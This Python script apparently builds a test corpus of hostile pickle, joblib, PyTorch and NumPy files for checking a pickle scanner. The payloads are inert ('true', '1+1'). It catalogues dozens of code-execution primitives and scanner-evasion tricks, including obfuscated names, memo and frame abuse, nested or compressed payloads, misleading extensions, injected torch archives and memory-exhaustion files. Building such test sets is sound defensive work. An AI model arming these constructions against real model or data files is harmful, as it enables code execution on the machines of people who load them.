"""Writes hostile files whose payloads do nothing: python attacks.py FOLDER

Beside them it writes list.tsv, a line "loader<TAB>path" each, for oracle.py.
The classes are those that a scanner of pickles meets; a name begins with its class.
"""
import base64, bz2, gzip, io, lzma, marshal, os, pathlib, pickle, pickletools, struct, sys, tarfile, types, zipfile, zlib

import cloudpickle, dill, joblib, numpy as np, torch

out = pathlib.Path(sys.argv[1]).resolve()
out.mkdir(parents=True, exist_ok=True)
lines = []


def put(name, data, loader="pickle"):
    p = out / name
    p.write_bytes(data)
    lines.append(f"{loader}\t{p}")


# An assembler of opcodes.
def S(s): b = s.encode(); return b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b
def G(m, n): return b"c" + m.encode() + b"\n" + n.encode() + b"\n"
def SG(m, n): return S(m) + S(n) + b"\x93"
def P(v): return pickle.dumps(v, 2)[2:-1].replace(b"q\x00", b"") if isinstance(v, (int, float, type(None), bool)) else None
def V(v):
    if isinstance(v, bytes) and not v.startswith(b"\x00raw"): return b"B" + struct.pack("<I", len(v)) + v
    if isinstance(v, bytes): return v[4:]
    if isinstance(v, str): return S(v)
    if isinstance(v, (list,)): return b"(" + b"".join(map(V, v)) + b"l"
    if isinstance(v, tuple): return b"(" + b"".join(map(V, v)) + b"t"
    if isinstance(v, dict): return b"(" + b"".join(V(k) + V(x) for k, x in v.items()) + b"d"
    return P(v)
def raw(b): return b"\x00raw" + b
def call(f, *args): return f + b"(" + b"".join(map(V, args)) + b"tR"
PRO = b"\x80\x04"
SYS = call(G("os", "system"), "true")
null = "/dev/null"
scratch = str(out / "scratch")
os.makedirs(scratch, exist_ok=True)
(out / "scratch" / "one.py").write_text("1+1\n")
inner = PRO + SYS + b"."
(out / "scratch" / "inner.pkl").write_bytes(inner)
code = marshal.dumps(compile("1+1", "x", "eval"))

primitives = [
    ("os", "system", "true"), ("posix", "system", "true"), ("os", "popen", "true"), ("os", "posix_spawn", "/bin/true", ["true"], {}), ("os", "spawnlp", 0, "true", "true"), ("os", "putenv", "A", "B"),
    ("os", "mkdir", scratch + "/d"), ("os", "rename", scratch + "/none", scratch + "/x"), ("os", "remove", scratch + "/none"), ("os", "chmod", scratch, 0o755), ("os", "symlink", "a", scratch + "/link"), ("os", "truncate", scratch + "/none", 0),
    ("os", "listdir", scratch), ("os", "open", null, 1), ("os", "fdopen", 77, "w"), ("os", "kill", 0, 0),
    ("subprocess", "Popen", ["true"]), ("subprocess", "run", ["true"]), ("subprocess", "call", ["true"]), ("subprocess", "check_output", ["true"]), ("subprocess", "getoutput", "true"), ("subprocess", "getstatusoutput", "true"),
    ("builtins", "eval", "1+1"), ("builtins", "exec", "1+1"), ("builtins", "compile", "1+1", "x", "eval"), ("builtins", "__import__", "this"), ("__builtin__", "eval", "1+1"), ("__builtin__", "execfile", "x"), ("builtins", "open", null, "w"), ("io", "open", null, "w"), ("_io", "FileIO", null, "w"), ("io", "open_code", null), ("builtins", "breakpoint"),
    ("importlib", "import_module", "this"), ("importlib", "__import__", "this"), ("runpy", "run_path", scratch + "/one.py"), ("runpy", "_run_code", raw(call(G("builtins", "compile"), "1+1", "x", "exec")), {}), ("pydoc", "locate", "this"), ("pydoc", "pipepager", "", "true"), ("pkgutil", "resolve_name", "this"), ("imp", "load_source", "one", scratch + "/one.py"),
    ("timeit", "timeit", "1+1", "1", raw(G("time", "time")), 1), ("cProfile", "run", "1+1"), ("profile", "run", "1+1"), ("pdb", "run", "1+1"), ("code", "InteractiveInterpreter.runsource"), ("codeop", "compile_command", "1+1"), ("trace", "Trace"), ("doctest", "testfile", "x", False), ("bdb", "Bdb"), ("ast", "parse", "1+1"), ("py_compile", "compile", scratch + "/one.py", scratch + "/one.pyc"), ("compileall", "compile_file", scratch + "/one.py"),
    ("pty", "spawn", ["true"]), ("ctypes", "CDLL", None), ("ctypes", "string_at", 0, 0), ("_ctypes", "dlopen", None, 0), ("ctypes.util", "find_library", "c"), ("mmap", "mmap", -1, 10),
    ("socket", "socket"), ("socket", "create_server", ("127.0.0.1", 0)), ("socket", "gethostbyname", "localhost"), ("urllib.request", "urlopen", "file:///dev/null"), ("http.client", "HTTPConnection", "127.0.0.1"), ("smtplib", "SMTP"), ("ftplib", "FTP"), ("telnetlib", "Telnet"), ("xmlrpc.client", "ServerProxy", "http://127.0.0.1"), ("socketserver", "TCPServer", ("127.0.0.1", 0), None),
    ("shutil", "copyfile", null, scratch + "/c"), ("shutil", "rmtree", scratch + "/none", True), ("shutil", "make_archive", scratch + "/a", "zip", scratch), ("shutil", "unpack_archive", "x"), ("tempfile", "mkdtemp", None, None, scratch), ("tempfile", "NamedTemporaryFile"), ("pathlib", "Path.write_text", raw(call(G("pathlib", "PosixPath"), scratch + "/w")), "x"), ("pathlib", "Path.touch", raw(call(G("pathlib", "PosixPath"), scratch + "/w"))), ("pathlib", "Path.unlink", raw(call(G("pathlib", "PosixPath"), scratch + "/none")), True),
    ("sqlite3", "connect", ":memory:"), ("_sqlite3", "connect", ":memory:"), ("dbm", "open", scratch + "/db", "c"), ("shelve", "open", scratch + "/sh"), ("zipfile", "ZipFile", scratch + "/z.zip", "w"), ("tarfile", "open", scratch + "/t.tar", "w"), ("gzip", "open", null, "wb"), ("bz2", "open", null, "wb"), ("lzma", "open", null, "wb"), ("codecs", "open", null, "w"), ("mailbox", "mbox", scratch + "/m"), ("fileinput", "input", null), ("linecache", "getlines", "/etc/hostname"), ("wave", "open", scratch + "/w.wav", "wb"),
    ("logging", "FileHandler", null), ("logging.config", "dictConfig", {"version": 1, "handlers": {"f": {"class": "logging.FileHandler", "filename": null}}, "root": {"handlers": ["f"]}}), ("logging.config", "fileConfig", null), ("logging.handlers", "RotatingFileHandler", null),
    ("multiprocessing", "Process"), ("multiprocessing.util", "spawnv_passfds", b"/bin/true", [b"true"], []), ("_posixsubprocess", "fork_exec"), ("asyncio", "run", None), ("threading", "Timer", 0, None), ("signal", "alarm", 0), ("sched", "scheduler"), ("atexit", "register", raw(G("builtins", "print"))), ("gc", "get_objects"), ("sys", "settrace", None), ("sys", "setrecursionlimit", 1000), ("sys", "_getframe"), ("inspect", "currentframe"), ("faulthandler", "enable"), ("resource", "getrlimit", 0),
    ("pickle", "loads", inner), ("_pickle", "loads", inner), ("pickle", "load", raw(call(G("io", "BytesIO"), inner))), ("marshal", "loads", code), ("joblib", "load", scratch + "/inner.pkl"), ("numpy", "load", scratch + "/inner.pkl", None, True), ("pandas", "read_pickle", scratch + "/inner.pkl"), ("pandas.io.pickle", "read_pickle", scratch + "/inner.pkl"), ("torch", "load", scratch + "/inner.pkl"), ("torch.serialization", "load", scratch + "/inner.pkl"), ("dill", "loads", inner), ("cloudpickle", "loads", inner), ("joblib.numpy_pickle", "load", scratch + "/inner.pkl"),
    ("numpy.testing._private.utils", "runstring", "1+1", {}), ("numpy.f2py.crackfortran", "myeval", "1+1"), ("numpy.f2py.capi_maps", "load_f2cmap_file", null), ("numpy", "fromfile", null), ("numpy", "save", scratch + "/n", 1), ("numpy", "savetxt", scratch + "/n.txt", [1]), ("numpy", "memmap", scratch + "/mm", "u1", "w+", 0, (1,)), ("numpy", "genfromtxt", null), ("numpy.ctypeslib", "load_library", "x", "/"), ("numpy", "tofile"), ("numpy.lib.npyio", "DataSource", scratch),
    ("torch.utils.collect_env", "run", "true"), ("torch.hub", "load", scratch, "x"), ("torch", "save", 1, scratch + "/s.pt"), ("torch.jit", "load", "x"), ("torch.utils.cpp_extension", "load", "x", []), ("torch.ops", "load_library", "x"), ("torch._inductor.codecache", "PyCodeCache.load", "1+1"), ("torch.utils._config_module", "ConfigModule.load_config", inner), ("torch.package", "PackageImporter", "x"),
    ("pip", "main", ["--version"]), ("pip._internal.cli.main", "main", ["--version"]), ("setuptools.sandbox", "run_setup", "x", []), ("pkg_resources", "resource_string", "pip", "x"), ("distutils.spawn", "spawn", ["true"]), ("distutils.file_util", "write_file", null, ["x"]), ("venv", "create", scratch + "/none/venv"), ("ensurepip", "version"), ("webbrowser", "get", "true"), ("unittest.mock", "_importer", "this"), ("test.support.script_helper", "assert_python_ok", "-c", "1"), ("idlelib.pyshell", "main"), ("lib2to3.refactor", "_get_head_types", None), ("zipimport", "zipimporter", "x"), ("zipapp", "create_archive", scratch, scratch + "/z.pyz"), ("cgitb", "enable"), ("uuid", "_unix_getnode"), ("platform", "uname"), ("ssl", "create_default_context"), ("turtle", "bye"), ("antigravity", "webbrowser.open", "x"), ("this", "s"), ("getpass", "getuser"), ("crypt", "crypt", "a", "aa"), ("readline", "write_history_file", null), ("fcntl", "ioctl", 0, 0),
    ("functools", "reduce", raw(G("os", "system")), ["true", "x"]), ("builtins", "list", raw(call(G("builtins", "map"), raw(G("os", "system")), ["true"]))), ("builtins", "sorted", ["true", "true"], ), ("itertools", "starmap", raw(G("os", "system")), [("true",)]), ("builtins", "getattr", raw(G("os", "path")), "os"), ("operator", "methodcaller", "system", "true"), ("operator", "attrgetter", "system"), ("types", "FunctionType", raw(call(G("marshal", "loads"), code)), {}), ("types", "CodeType", 0), ("builtins", "type", "X", (), {}), ("collections", "namedtuple", "A", "b"), ("dataclasses", "make_dataclass", "A", ["b"]), ("typing", "ForwardRef", "1+1"), ("enum", "Enum", "A", "b"), ("codecs", "register", raw(G("os", "system"))), ("string", "Formatter"), ("weakref", "finalize", raw(G("collections", "OrderedDict")), raw(G("os", "system")), "true"), ("contextlib", "contextmanager", raw(G("os", "system"))), ("copyreg", "pickle", raw(G("collections", "OrderedDict")), raw(G("os", "system"))), ("sympy", "sympify", "1+1"), ("yaml", "unsafe_load", "1"), ("jsonpickle", "decode", "1"), ("keras.models", "load_model", "x"), ("transformers", "pipeline", "x"), ("dill._dill", "_create_code", 0), ("cloudpickle.cloudpickle", "_make_skel_func", 0), ("IPython", "embed"), ("joblib", "Memory", scratch + "/mem"), ("requests", "get", "http://127.0.0.1:9"), ("paramiko", "SSHClient"),
]
for m, n, *args in primitives:
    name = f"11-{m}.{n}"
    put(name + ".p0", call(G(m, n), *args) + b".")
    put(name + ".p4", PRO + call(SG(m, n), *args) + b".")
    put(name + ".inst", b"(" + b"".join(map(V, args)) + b"i" + m.encode() + b"\n" + n.encode() + b"\n.")

# 1: broken after it ran.
for name, end in dict(nostop=b"", badop=b"\xff.", truncated=b"X\xff\x00\x00\x00abc", underflow=b"0000.", memo=b"h\x55.", mark=b"(.", text=b"I12x\n.", proto=b"\x80\x63.", type=b"NNR.", longneg=b"\x8b\xff\xff\xff\xff.").items():
    put(f"01-{name}", PRO + SYS + end)
# 2: frames.
put("02-short", PRO + b"\x95" + struct.pack("<Q", 5) + SYS + b".")
put("02-inside", PRO + b"\x95" + struct.pack("<Q", len(SYS) + 10) + b"\x95" + struct.pack("<Q", len(SYS)) + SYS + b".")
put("02-huge", PRO + b"\x95" + struct.pack("<Q", 1 << 60) + SYS + b".", "pickle-py")
put("02-zero", PRO + b"\x95" + struct.pack("<Q", 0) + SYS + b".")
put("02-beyond", PRO + b"\x95" + struct.pack("<Q", len(SYS) + 40) + SYS + b"." + b"\x00" * 60)
put("02-in-argument", PRO + b"\x95" + struct.pack("<Q", 4) + S("abcdef") + b"0" + SYS + b".")
# 3: computed names.
for name, how in dict(
        format=call(G("builtins", "str.format"), "{}s", "o"), codecs=call(G("codecs", "decode"), b"os", "latin1"), encode=call(G("_codecs", "encode"), "bf", "rot13"), join=call(G("builtins", "str.join"), "", ["o", "s"]),
        str=call(G("builtins", "str"), b"os", "latin1"), replace=call(G("builtins", "str.replace"), "xs", "x", "o"), bytes=call(G("builtins", "bytes.decode"), b"os"), upper=call(G("builtins", "str.lower"), "OS"),
        getitem=call(G("operator", "getitem"), ["os"], 0), strip=call(G("builtins", "str.strip"), " os "), slice=call(G("operator", "concat"), "o", "s")).items():
    put(f"03-{name}", PRO + how + S("system") + b"\x93(" + S("true") + b"tR.")
    put(f"03-{name}-attribute", PRO + S("os") + how.replace(b"os", b"system") + b"\x93(" + S("true") + b"tR.")
# 4: memo.
put("04-overwritten", PRO + S("collections") + b"q\x000" + S("os") + b"q\x000h\x00" + S("system") + b"\x93(" + S("true") + b"tR.")
put("04-mixed", PRO + S("posixpath") + b"q\x010" + S("os") + b"\x940h\x01" + b"0h\x01" + b"0" + SYS + b".")
put("04-memoize-after-put", PRO + S("x") + b"q\x050" + S("os") + b"\x940h\x01" + S("system") + b"\x93(" + S("true") + b"tR.")
put("04-text", b"Vos\np07\n0Vsystem\np8\n0g7\ng8\n\x93(Vtrue\ntR.")
put("04-sparse", PRO + S("os") + b"r\xff\xff\x0f\x000j\xff\xff\x0f\x00" + S("system") + b"\x93(" + S("true") + b"tR.")
put("04-function", PRO + G("os", "system") + b"q\x000Nh\x00(" + S("true") + b"tR.")
# 5: names written otherwise.
put("05-escaped", PRO + b"V\\u006fs\nV\\u0073ystem\n\x93(Vtrue\ntR.")
put("05-escaped-string", PRO + b"S'\\x6fs'\nS'\\163ystem'\n\x93(Vtrue\ntR.")
put("05-dup-pop", PRO + S("os") + b"2020" + S("x") + b"0" + S("system") + b"20\x93(" + S("true") + b"tR.")
put("05-binstring", PRO + b"U\x02osU\x06system\x93(U\x04truetR.")
put("05-long", PRO + b"X\x02\x00\x00\x00os\x8d\x06" + b"\x00" * 7 + b"system\x93(" + S("true") + b"tR.")
put("05-popmark", PRO + S("os") + b"(" + S("a") + S("b") + b"1" + S("system") + b"\x93(" + S("true") + b"tR.")
put("05-get", PRO + b"Vos\np0\n0Vsystem\np1\n0g0\ng1\n\x93(Vtrue\ntR.")
put("05-cr", b"cos\nsystem\n(S\"true\"\ntR.")
put("05-python2", b"ccommands\ngetoutput\n(S'true'\ntR.")
# 6: chains.
for m, chain in [("torch.serialization", "os.system"), ("posixpath", "os.system"), ("joblib.numpy_pickle", "os.system"), ("numpy", "os.system"), ("collections", "_sys.modules"), ("random", "_os.system"), ("torch", "os.system"), ("sklearn", "os.system"), ("pickle", "sys.modules.get"), ("logging", "os.system"), ("torch.utils.data", "os.system"), ("numpy", "ndarray.__class__.__base__"), ("builtins", "object.__subclasses__"), ("torch.storage", "io.open"), ("sklearn.utils._bunch", "Bunch.__init__.__globals__"), ("collections", "OrderedDict.__init__.__globals__.get"), ("uuid", "os.system"), ("torch.nn.modules.module", "inspect.sys.modules"), ("numpy.random._pickle", "__builtins__"), ("numpy._core.multiarray", "os.system"), ("re", "_compiler.sys"), ("datetime", "sys.modules"), ("fractions", "operator.call"), ("decimal", "_decimal"), ("pathlib", "os.system"), ("pathlib", "io.open"), ("argparse", "_os.system")]:
    put(f"06-{m}.{chain}", PRO + SG(m, chain) + b"(" + S("true") + b"tR.")
    a, *rest = chain.split(".")
    f = G(m, a)
    for r in rest:
        f = call(G("builtins", "getattr"), raw(f), r)
    put(f"06-{m}.{chain}.getattr", f + b"(Vtrue\ntR.")
# 7: hidden calls.
put("07-pop", PRO + SYS + b"0N.")
put("07-obj", PRO + b"(" + G("os", "system") + S("true") + b"o0N.")
put("07-inst", PRO + b"(" + S("true") + b"ios\nsystem\n0N.")
put("07-newobj", PRO + G("subprocess", "Popen") + b"(]" + S("true") + b"at\x81.")
put("07-newobj-ex", PRO + G("collections", "Counter") + b"(t}\x92" + b"0" + SYS + b".")
put("07-build", PRO + G("collections", "OrderedDict") + b"(N}" + S("update") + G("os", "system") + b"stb" + b"0" + call(G("collections", "OrderedDict")) + b"(" + S("a") + b"Ku" + b".")
put("07-setstate", PRO + call(G("functools", "partial"), raw(G("collections", "OrderedDict"))) + b"(" + G("os", "system") + b"(" + S("true") + b"t}Ntb)R.")
put("07-partial", PRO + call(G("functools", "partial"), raw(G("os", "system")), "true") + b")R.")
put("07-defaultdict", PRO + call(G("operator", "getitem"), raw(call(G("collections", "defaultdict"), raw(call(G("functools", "partial"), raw(G("os", "system")), "true")))), "x") + b".")
put("07-defaultdict-only", PRO + call(G("collections", "defaultdict"), raw(call(G("functools", "partial"), raw(G("os", "system")), "true"))) + b".")
put("07-map", PRO + call(G("builtins", "list"), raw(call(G("builtins", "map"), raw(G("os", "system")), ["true"]))) + b".")
put("07-max-key", PRO + call(G("builtins", "max"), ["true"]) + b"0" + SYS + b".")
put("07-reconstructor", PRO + call(G("copyreg", "_reconstructor"), raw(G("subprocess", "Popen")), raw(G("builtins", "object")), None) + b".")
put("07-newobj-function", PRO + call(G("copyreg", "__newobj__"), raw(G("subprocess", "Popen")), ["true"]) + b".")
put("07-environ", PRO + G("os", "environ") + S("A") + S("B") + b"s.")
put("07-path", PRO + G("sys", "path") + S("/x") + b"a.")
put("07-rebuild", PRO + call(G("torch._tensor", "_rebuild_from_type_v2"), raw(G("os", "system")), raw(G("torch", "Tensor")), ("true",), None) + b".")
put("07-generator", PRO + call(G("numpy.random._pickle", "__generator_ctor"), "true", raw(G("os", "system"))) + b".")
put("07-call-of-object", PRO + call(G("collections", "OrderedDict")) + b")R0" + SYS + b".")
# 8: what stands outside of the file.
put("08-ext", PRO + b"\x82\x01)R.")
put("08-persid", b"Pabc\n.")
put("08-binpersid", PRO + S("x") + b"Q.")
put("08-buffer", b"\x80\x05\x97\x98.")
# 9: nested.
put("09-bytes", pickle.dumps({"x": inner}), "pickle")
put("09-held", pickle.dumps(inner), "nested")
put("09-base64", pickle.dumps(base64.b64encode(inner).decode()), "nested")
put("09-loads", PRO + call(G("pickle", "loads"), inner) + b".")
put("09-loads-deep", PRO + call(G("pickle", "loads"), PRO + call(G("pickle", "loads"), inner) + b".") + b".")
put("09-zlib", PRO + call(G("pickle", "loads"), raw(call(G("zlib", "decompress"), zlib.compress(inner)))) + b".")
put("09-load-from-bytes", PRO + call(G("torch.storage", "_load_from_bytes"), inner) + b".")
put("09-scalar", PRO + call(G("numpy._core.multiarray", "scalar"), raw(call(G("numpy", "dtype"), "O8")), inner) + b".")
put("09-other-file", PRO + call(G("joblib", "load"), scratch + "/inner.pkl") + b".")
put("09-ndarraywrapper", PRO + call(G("joblib.numpy_pickle_compat", "NDArrayWrapper"), scratch + "/inner.pkl", None) + b".")
# 10: code objects.
# Compiled under a name of its own, so that the file does not hold the path of this machine.
ADD = eval(compile("lambda: 1 + 1", "<attack>", "eval"))
put("10-dill", dill.dumps(ADD))
put("10-cloudpickle", cloudpickle.dumps(ADD))
put("10-marshal", PRO + call(G("types", "FunctionType"), raw(call(G("marshal", "loads"), code)), {}) + b")R.")
put("10-dill-class", dill.dumps(type("A", (), {"f": lambda s: 1})))


class Evil:
    def __reduce__(self):
        return os.system, ("true",)


# 12: several in one file.
ok = pickle.dumps([1, 2, 3], 4)
put("12-second", ok + inner, "several")
put("12-junk", ok + b"\xff\x00junk\x00" + inner, "skip")
put("12-zeros", b"\x00" * 100 + inner, "skip")
put("12-text", b"some text in front\n" + inner, "skip")
z = io.BytesIO()
with zipfile.ZipFile(z, "w") as f:
    f.writestr("a.txt", "x")
put("12-pickle-and-zip", inner + z.getvalue())
# 13: joblib.
buf = io.BytesIO(); joblib.dump([np.arange(50.0), Evil()], buf); put("13-after-array", buf.getvalue(), "joblib")
buf = io.BytesIO(); joblib.dump([np.array([Evil(), 1], dtype=object), 1], buf); put("13-object-array", buf.getvalue(), "joblib")
buf = io.BytesIO(); joblib.dump([np.arange(50.0), Evil()], buf, protocol=2); put("13-protocol2", buf.getvalue(), "joblib")
buf = io.BytesIO(); joblib.dump(np.zeros(100, "u1"), buf)
b = buf.getvalue(); i = b.index(b"\x00" * 90)
put("13-opcodes-in-array", b[:i - b[i - 20:i].count(b"\xff") - 1] + b"0" + SYS + b"." + b"\x00" * 100)
put("13-size-past-end", b[:-80], "joblib")
pre = b[:b.index(b"\xff")]
put("13-plain-after-wrapper", pre[:-1] + SYS + b"." + b"\x00" * 80)
# 14: compressed.
for name, packed in dict(zlib=zlib.compress(inner), gzip=gzip.compress(inner), bz2=bz2.compress(inner), xz=lzma.compress(inner), lzma=lzma.compress(inner, lzma.FORMAT_ALONE), gzip2=gzip.compress(ok[:20]) + gzip.compress(ok[20:] + inner), tail=gzip.compress(inner) + b"tail").items():
    put(f"14-{name}", packed, "joblib")
put("14-zf", b"ZF" + hex(len(inner)).ljust(19).encode() + zlib.compress(inner), "joblib")
# 15: names that lie.
for ext in ("safetensors", "onnx", "json", "TXT", "h5"):
    put(f"15-named.{ext}", inner)
# 16: PyTorch.
t = torch.zeros(4)
buf = io.BytesIO(); torch.save({"a": t, "e": Evil()}, buf); put("16-zip.pt", buf.getvalue(), "torch")
buf = io.BytesIO(); torch.save({"a": t, "e": Evil()}, buf, _use_new_zipfile_serialization=False); put("16-legacy.pt", buf.getvalue(), "torch")
buf = io.BytesIO(); torch.save({"a": t}, buf, _use_new_zipfile_serialization=False); legacy = buf.getvalue()
bounds, f = [0], io.BytesIO(legacy)
for _ in range(5):
    for _ in pickletools.genops(f):
        pass
    bounds.append(f.tell())
for k in (1, 2, 4):
    put(f"16-legacy-{k}.pt", legacy[:bounds[k]] + b"\x80\x02" + SYS + b"0" + legacy[bounds[k] + 2:], "torch")
put("16-legacy-0.pt", b"\x80\x02" + SYS + b"0" + legacy[2:], "torch")
put("16-legacy-behind.pt", legacy + inner, "torch")
tar = io.BytesIO()
with tarfile.open(fileobj=tar, mode="w") as tf:
    for n, b in (("sys_info", pickle.dumps({}, 2)), ("pickle", b"\x80\x02" + SYS + b"."), ("storages", pickle.dumps(0, 2) + pickle.dumps([], 2)), ("tensors", pickle.dumps(0, 2))):
        i = tarfile.TarInfo(n); i.size = len(b); tf.addfile(i, io.BytesIO(b))
put("16-tar.pt", tar.getvalue(), "torch")
for member in ("data.pkl", "constants.pkl", "attributes.pkl"):
    buf = io.BytesIO(); torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), buf)
    z = zipfile.ZipFile(buf); o = io.BytesIO()
    with zipfile.ZipFile(o, "w") as w:
        for i in z.namelist():
            w.writestr(i, inner if i.endswith(member) else z.read(i))
        if member == "attributes.pkl":
            w.writestr("archive/" + member, inner)
    put(f"16-torchscript-{member}.pt", o.getvalue(), "torch")
buf = io.BytesIO(); torch.save({"a": t}, buf); z = zipfile.ZipFile(buf); o = io.BytesIO()
with zipfile.ZipFile(o, "w") as w:
    for i in z.namelist():
        w.writestr(i, inner if "data/0" in i else z.read(i))
put("16-payload-as-tensor.pt", o.getvalue(), "torch")
# 19: memory.
put("19-length", PRO + SYS + b"\x8e" + struct.pack("<Q", 1 << 62))
put("19-long", PRO + SYS + b"\x8b" + struct.pack("<i", 2**31 - 1))
put("19-memo", PRO + b"Nr\xff\xff\xff\xff0" + SYS + b".", "pickle-py")
put("19-marks", PRO + SYS + b"(" * 10_000_000)
put("19-doubling", PRO + SYS + b"0)" + b"q\x00" + b"h\x00\x86" * 1000 + b".")
put("19-nested", PRO + SYS + b"0N" + b"\x85" * 1_000_000 + b".")
put("19-none", PRO + SYS + b"N" * 30_000_000)
put("19-dicts", PRO + SYS + b"}" * 5_000_000)
# 20: npy.
buf = io.BytesIO(); np.save(buf, np.array([Evil(), 1], dtype=object)); npy = buf.getvalue(); put("20-object.npy", npy, "numpy")
buf = io.BytesIO(); np.lib.format.write_array(buf, np.array([Evil(), 1], dtype=object), (2, 0)); put("20-v2.npy", buf.getvalue(), "numpy")
buf = io.BytesIO(); np.lib.format.write_array(buf, np.array([Evil(), 1], dtype=object), (3, 0)); put("20-v3.npy", buf.getvalue(), "numpy")
a = np.zeros(2, dtype=[("x", "f8"), ("o", "O")]); a["o"][0] = Evil(); buf = io.BytesIO(); np.save(buf, a); put("20-field.npy", buf.getvalue(), "numpy")
buf = io.BytesIO(); np.savez(buf, a=np.array([Evil()], dtype=object)); put("20-npz.npz", buf.getvalue(), "numpy")
z = io.BytesIO()
with zipfile.ZipFile(z, "w") as w:
    w.writestr("arr", npy)
put("20-no-suffix.npz", z.getvalue(), "numpy")
put("20-header-code.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", 60) + b"__import__('os').system('true')".ljust(59) + b"\n" + b"\0" * 8, "numpy")
put("20-plain-pickle.npy", inner, "numpy")
put("20-huge-header.npy", b"\x93NUMPY\x02\x00" + struct.pack("<I", 2**32 - 1) + b"{'descr'", "numpy")

(out / "list.tsv").write_text("\n".join(lines) + "\n")
print(len(lines), "files")
